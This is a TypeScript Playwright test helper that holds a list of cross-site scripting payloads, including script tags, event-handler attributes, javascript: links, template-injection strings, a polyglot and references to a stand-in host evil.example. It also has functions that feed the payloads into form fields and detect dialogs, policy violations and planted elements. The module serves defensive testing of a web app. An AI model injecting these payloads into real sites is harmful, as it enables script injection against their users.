import type { Page } from 'playwright-core';

/**
 * Texts that run a script where a page takes them for more than texts: in elements, attributes, addresses, styles, scripts,
 * templates and Markdown, in one quote or another, and in ways that only some parsers fall for. All carry the attribute
 * or word `planted`, by which one is found that became an element without running.
 */
export const scriptTexts: readonly string[] = [
  '<b planted>x',
  '<script planted>alert(1)</script>',
  '<img planted src=x onerror=alert(1)>',
  '"><img planted src=x onerror=alert(1)>',
  "'><svg planted onload=alert(1)>",
  '<svg planted><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script planted>alert&#40;1)</script></svg>',
  '<iframe planted srcdoc="<script>parent.alert(1)</script>">',
  '<iframe planted src="javascript:alert(1)">',
  '<a planted href="javascript:alert(1)">x</a>',
  '<a planted href="java&#x09;script:alert(1)">x</a>',
  '<math planted><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details planted open ontoggle=alert(1)>',
  '<input planted autofocus onfocus=alert(1)>',
  '<video planted><source onerror=alert(1)></video>',
  '<body planted onpageshow=alert(1)>',
  '<form planted><button formaction=javascript:alert(1)>x',
  '<object planted data="data:text/html,<script>alert(1)</script>">',
  '<base planted href="//evil.example/">',
  '<meta planted http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style planted>@import "//evil.example/x";*{background:url(//evil.example/)}</style>',
  '<template planted><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img planted src=x onerror=alert(1)>">',
  '<!--><img planted src=x onerror=alert(1)>-->',
  '</textarea></title></script><img planted src=x onerror=alert(1)>',
  '\\u003cimg planted src=x onerror=alert(1)\\u003e',
  '&lt;img planted src=x onerror=alert(1)&gt;',
  '%3Cimg planted src=x onerror=alert(1)%3E',
  '\uff1cimg planted src=x onerror=alert(1)\uff1e',
  '{{constructor.constructor("alert(1)")()}} planted',
  '${alert(1)} planted',
  '{@html "<img planted src=x onerror=alert(1)>"}',
  '" planted onmouseover=alert(1) x="',
  "' planted autofocus onfocus=alert(1) x='",
  'javascript:alert(1)//planted',
  '[planted](javascript:alert(1))',
  '![planted](x"onerror="alert(1))',
  '<javascript:alert(1)>planted',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<planted/oNloAd=alert()//>\\x3e',
];

/** All of them, each in its turn: what is short enough for a field. */
export function createScriptTexts(): (most: number) => string {
  const used = new Map<string, number>();
  return (most) => {
    const fitting = scriptTexts.filter((text) => text.length <= most);
    // The one that stood in the fewest fields.
    const [text = ''] = fitting.toSorted((one, other) => (used.get(one) ?? 0) - (used.get(other) ?? 0));
    used.set(text, (used.get(text) ?? 0) + 1);
    return text;
  };
}

/** Notes what a text has done that was taken for more, in a page and the frames in it. */
export function watchForScripts(page: Page): string[] {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`a dialog at ${page.url()}`);
    void dialog.dismiss();
  });
  page.on('console', (line) => {
    if (/Content Security Policy/i.test(line.text())) seen.push(`${line.text()} at ${page.url()}`);
  });
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) seen.push(`a request to ${request.url()}`);
  });
  return seen;
}

/** The elements of a page and its frames that a text has made, and links that would run one. */
export async function plantedIn(page: Page): Promise<string[]> {
  const found = await Promise.all(
    page.frames().map((frame) =>
      frame.evaluate(() => {
        const links = [...document.querySelectorAll('a[href], area[href], form[action], iframe[src]')].filter(
          (element) =>
            /^[\s\0-\x20]*(javascript|data|vbscript):/i.test(
              element.getAttribute('href') ??
                element.getAttribute('action') ??
                element.getAttribute('src') ??
                '',
            ),
        );
        return [...document.querySelectorAll('[planted], planted'), ...links].map(
          (element) => element.outerHTML,
        );
      }),
    ),
  );
  return found.flat();
}
